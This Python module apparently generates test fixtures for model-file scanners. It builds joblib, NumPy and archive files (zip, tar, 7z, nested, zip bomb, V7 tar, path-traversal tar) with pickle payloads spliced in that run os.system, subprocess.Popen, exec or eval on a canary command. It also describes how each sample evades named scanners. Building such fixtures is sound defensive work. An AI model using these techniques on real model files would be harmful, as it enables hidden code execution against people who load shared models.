"""Malicious joblib, NumPy and archive files.

Covers joblib (plain and every compressor joblib sniffs), NumPy object arrays, and archives (zip,
tar, 7z, nesting, a zip bomb) that hide a malicious pickle.
"""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import lzma
import pickle
import zlib

from ._payload import EXEC, OS_SYSTEM, os_system, payload_ops, program, splice
from ._pickle_asm import Asm, Call, Global, Node
from ._registry import Canary, sample
from ._zipbytes import read_zip, write_tar, write_zip

# -- helpers ---------------------------------------------------------------------------------------


def npy_object(c: Canary, node: Node | None = None) -> bytes:
    """An ``.npy`` object array written by numpy.save, with the payload spliced into its pickle."""
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.array([{"label": "cat"}, {"label": "dog"}], dtype=object), allow_pickle=True)
    data = buf.getvalue()
    start = data.index(pickle.PROTO, 10)
    return data[:start] + splice(data[start:], node if node is not None else Call(OS_SYSTEM, (c.sh,)))


@functools.cache
def _joblib_plain() -> bytes:
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump({"coef_": np.linspace(0.0, 1.0, 8), "classes_": ["ham", "spam"], "n_features_in_": 8}, buf)
    return buf.getvalue()


def joblib_bytes(c: Canary) -> bytes:
    """An uncompressed joblib file (real ``joblib.dump`` output) with the payload spliced in."""
    return splice(_joblib_plain(), Call(Global("subprocess", "Popen"), (c.argv,)))


# -- joblib ----------------------------------------------------------------------------------------

_JOBLIB = {"loader": "joblib", "requires": ("joblib",)}


def _joblib_sample(name: str, filename: str, container: str, compress: object, what: str) -> None:
    @sample(
        name,
        technique=f"joblib:{container.split('-', 1)[-1]}",
        container=container,
        filename=filename,
        description=f"Real joblib.dump output (numpy array wrapper and all) with a subprocess.Popen payload "
        f"spliced into its pickle, {what}; joblib.load sniffs the compressor from the magic bytes.",
        **_JOBLIB,  # type: ignore[arg-type]
    )
    def _build(c: Canary) -> bytes:
        return compress(joblib_bytes(c))  # type: ignore[operator, no-any-return]


def _lz4(data: bytes) -> bytes:
    import lz4.frame

    return bytes(lz4.frame.compress(data))


_joblib_sample("joblib_plain", "model.joblib", "joblib", lambda d: d, "uncompressed")
_joblib_sample("joblib_zlib", "model_z.joblib", "joblib-zlib", zlib.compress, "zlib-compressed")
_joblib_sample(
    "joblib_gzip", "model.joblib.gz", "joblib-gzip", lambda d: gzip.compress(d, mtime=0), "gzip-compressed"
)
_joblib_sample("joblib_bz2", "model.joblib.bz2", "joblib-bz2", bz2.compress, "bz2-compressed")
_joblib_sample("joblib_xz", "model.joblib.xz", "joblib-xz", lzma.compress, "xz-compressed")
_joblib_sample(
    "joblib_lzma",
    "model.joblib.lzma",
    "joblib-lzma",
    lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE),
    "legacy .lzma-compressed",
)
_joblib_sample("joblib_lz4", "model.joblib.lz4", "joblib-lz4", _lz4, "lz4-frame-compressed")


@sample(
    "joblib_zfile_legacy",
    technique="joblib:zfile",
    container="joblib-zfile",
    filename="model.pkl",
    description="joblib < 0.10's compressed format: 'ZF', the hex length, then a zlib stream of the pickle. "
    "joblib.load still reads it (load_compatibility); a scanner that knows only magic bytes of current "
    "formats sees no model at all.",
    **_JOBLIB,  # type: ignore[arg-type]
)
def _zfile(c: Canary) -> bytes:
    data = os_system(c, 2)
    return b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data)


@sample(
    "joblib_structured_object_dtype",
    technique="joblib:structured-object-dtype",
    container="joblib",
    filename="records.joblib",
    description="Real joblib.dump of an array whose structured dtype nests an object field: joblib "
    "pickles such an array inline after its NumpyArrayWrapper and unpickles it on load; the payload is "
    "spliced into that inline pickle, which a scanner sizing the array as raw bytes steps over.",
    **_JOBLIB,  # type: ignore[arg-type]
)
def _joblib_structured(c: Canary) -> bytes:
    import joblib
    import numpy as np

    records = np.zeros(2, dtype=[("id", "i8"), ("meta", [("source", "O")])])
    buf = io.BytesIO()
    joblib.dump({"records": records}, buf)
    data = buf.getvalue()
    start = data.index(pickle.PROTO + bytes([pickle.HIGHEST_PROTOCOL]), 2)
    return data[:start] + splice(data[start:], Call(Global("subprocess", "Popen"), (c.argv,)))


# -- NumPy -----------------------------------------------------------------------------------------


@sample(
    "numpy_npy_object_array",
    technique="numpy:object-array",
    container="npy",
    filename="embeddings.npy",
    loader="numpy",
    requires=("numpy",),
    description="numpy.save of an object array: the pickle after the .npy header runs os.system; live "
    "under numpy.load(allow_pickle=True).",
)
def _npy(c: Canary) -> bytes:
    return npy_object(c)


@sample(
    "numpy_npz_object_member",
    technique="numpy:npz-object-member",
    container="npz",
    filename="dataset.npz",
    loader="numpy-npz",
    requires=("numpy",),
    description="numpy.savez archive with a float array and an object-array member whose pickle execs "
    "source; it runs when that member is read with allow_pickle=True.",
)
def _npz(c: Canary) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.savez(buf, x=np.arange(6.0).reshape(2, 3))
    return write_zip([*read_zip(buf.getvalue()), ("meta.npy", npy_object(c, Call(EXEC, (c.py,))))])


# -- archives --------------------------------------------------------------------------------------


_ARCHIVE = {"loader": "archive-pickle"}
_README = b"# sentiment-classifier\nLoad with pickle.load(open('model/classifier.pkl', 'rb')).\n"


@sample(
    "zip_with_pickle",
    technique="archive:zip",
    container="zip",
    filename="model_bundle.zip",
    description="A zip 'model bundle' with a README and model/classifier.pkl that runs os.system.",
    **_ARCHIVE,  # type: ignore[arg-type]
)
def _zip(c: Canary) -> bytes:
    return write_zip([("README.md", _README), ("model/classifier.pkl", os_system(c))], compress=True)


@sample(
    "zip_pickle_txt_name",
    technique="archive:zip-nonstandard-name",
    container="zip",
    filename="weights.zip",
    advisory="GHSA-769v-p64c-89pr",
    description="The pickle inside the zip is named data.txt; picklescan < 0.0.22 only scanned members "
    "with pickle extensions.",
    **_ARCHIVE,  # type: ignore[arg-type]
)
def _zip_txt(c: Canary) -> bytes:
    return write_zip([("data.txt", program(4, Call(Global("builtins", "eval"), (c.py,))))])


@sample(
    "tar_gz_with_pickle",
    technique="archive:tar",
    container="tar.gz",
    filename="model.tar.gz",
    description="A gzip-compressed tarball holding model/pipeline.pkl.",
    **_ARCHIVE,  # type: ignore[arg-type]
)
def _targz(c: Canary) -> bytes:
    return write_tar([("README.md", _README), ("model/pipeline.pkl", os_system(c, 2))], "w:gz")


@sample(
    "sevenz_with_pickle",
    technique="archive:7z",
    container="7z",
    filename="weights.7z",
    requires=("py7zr",),
    description="A 7z archive holding data.pkl; 7z was the container of the 2025 'nullifAI' Hugging Face "
    "models, which scanners expecting zip did not open.",
    **_ARCHIVE,  # type: ignore[arg-type]
)
def _7z(c: Canary) -> bytes:
    return _sevenz([("data.pkl", os_system(c, 4))])


@sample(
    "sevenz_broken_pickle_nullifai",
    technique="archive:7z-broken-pickle",
    container="7z",
    filename="ballr7.7z",
    requires=("py7zr",),
    description="nullifAI reproduction: 7z-compressed pickle whose payload comes first and whose stream "
    "then breaks, so unpickling errors only after the code ran.",
    **_ARCHIVE,  # type: ignore[arg-type]
)
def _7z_broken(c: Canary) -> bytes:
    broken = Asm(2).push(Call(EXEC, (c.py,))).op(b"\x00\x01broken").program(stop=False)
    return _sevenz([("archive/data.pkl", broken)])


def _sevenz(members: list[tuple[str, bytes]]) -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        for name, data in members:
            archive.writef(io.BytesIO(data), name)
    return buf.getvalue()


@sample(
    "tar_with_nested_zip",
    technique="archive:nested",
    container="tar",
    filename="release.tar",
    description="A tar holding bundle.zip, which holds model/classifier.pkl: two container layers.",
    **_ARCHIVE,  # type: ignore[arg-type]
)
def _nested(c: Canary) -> bytes:
    inner = write_zip([("model/classifier.pkl", os_system(c, 3))], compress=True)
    return write_tar([("bundle.zip", inner), ("LICENSE", b"Apache-2.0\n")])


@sample(
    "zip_deep_nesting",
    technique="archive:deep-nesting",
    container="zip",
    filename="matryoshka.zip",
    description="Twenty zips nested in each other with the malicious pickle in the innermost one; a "
    "scanner without a depth limit recurses twenty times, one with a low limit should still report it.",
    **_ARCHIVE,  # type: ignore[arg-type]
)
def _deep(c: Canary) -> bytes:
    data = write_zip([("model.pkl", os_system(c, 4))])
    for level in range(19):
        data = write_zip([(f"layer{level:02d}.zip", data)])
    return data


@sample(
    "zip_bomb_padded_pickle",
    technique="archive:zip-bomb",
    container="zip",
    filename="large_model.zip",
    description="A 64 MiB deflated member (about 1000:1) whose pickle pushes 64 MiB of zero bytes, pops "
    "them, then runs the payload: scanners that cap decompression must still flag it.",
    **_ARCHIVE,  # type: ignore[arg-type]
)
def _bomb(c: Canary) -> bytes:
    pad = 64 * 1024 * 1024
    stream = Asm(4).op(pickle.BINBYTES8 + pad.to_bytes(8, "little")).program(header=True, stop=False)
    stream += b"\x00" * pad + pickle.POP + payload_ops(Call(OS_SYSTEM, (c.sh,)), 4) + pickle.STOP
    return write_zip([("data.pkl", stream)], compress=True)


@sample(
    "zip_with_raw_torch_bin",
    technique="archive:zip",
    container="zip",
    filename="checkpoint_bundle.zip",
    description="A zip that is not a PyTorch archive but contains a raw-pickle pytorch_model.bin.",
    **_ARCHIVE,  # type: ignore[arg-type]
)
def _zip_bin(c: Canary) -> bytes:
    return write_zip(
        [("config.json", b'{"model_type": "bert"}'), ("pytorch_model.bin", program(2, Call(EXEC, (c.py,))))]
    )


@sample(
    "tar_absolute_member_path",
    technique="archive:path-traversal",
    container="tar",
    filename="assets.tar",
    loader="tar-extract",
    advisory="CVE-2007-4559",
    description="A tar member whose name is the absolute canary path: tarfile.extractall without a "
    "filter (the default before Python 3.14) writes it outside the extraction folder. Nothing is "
    "unpickled; unpacking the model is enough.",
)
def _tar_abs(c: Canary) -> bytes:
    return write_tar([("assets/vocab.txt", b"hello\nworld\n"), (c.file, b"")])


@sample(
    "numpy_nested_object_field",
    technique="numpy:nested-object-field",
    container="npy",
    filename="annotations.npy",
    loader="numpy",
    requires=("numpy",),
    description="numpy.save of a structured array whose descr nests the object field, "
    "[('a', [('b', '|O')])]: the data after the header is a pickle whatever the outer dtype looks like.",
)
def _npy_nested(c: Canary) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.zeros(2, dtype=[("a", [("b", "O")])]), allow_pickle=True)
    data = buf.getvalue()
    start = data.index(pickle.PROTO, 10)
    return data[:start] + splice(data[start:], Call(OS_SYSTEM, (c.sh,)))


@sample(
    "tar_v7_no_magic",
    technique="archive:tar-v7",
    container="tar",
    filename="model_v7.tar",
    description="A V7 tar (no 'ustar' magic, only a header checksum) whose member, named 'weights' with no "
    "extension, is a pickle that runs os.system; tarfile reads V7 archives, scanners keyed on the magic "
    "or on member names skip it.",
    **_ARCHIVE,  # type: ignore[arg-type]
)
def _tar_v7(c: Canary) -> bytes:
    return v7_tar(write_tar([("weights", os_system(c, 2))], fmt="ustar"))


def v7_tar(data: bytes) -> bytes:
    """``data`` (a ustar archive) with every header's magic and version blanked: a V7 archive."""
    out = bytearray(data)
    pos = 0
    while pos + 512 <= len(out) and out[pos : pos + 512].strip(b"\x00"):
        size = int(bytes(out[pos + 124 : pos + 136]).strip(b" \x00") or b"0", 8)
        out[pos + 257 : pos + 265] = b"\x00" * 8
        out[pos + 148 : pos + 156] = b" " * 8
        out[pos + 148 : pos + 156] = b"%06o\x00 " % sum(out[pos : pos + 512])
        pos += 512 + (size + 511) // 512 * 512
    return bytes(out)
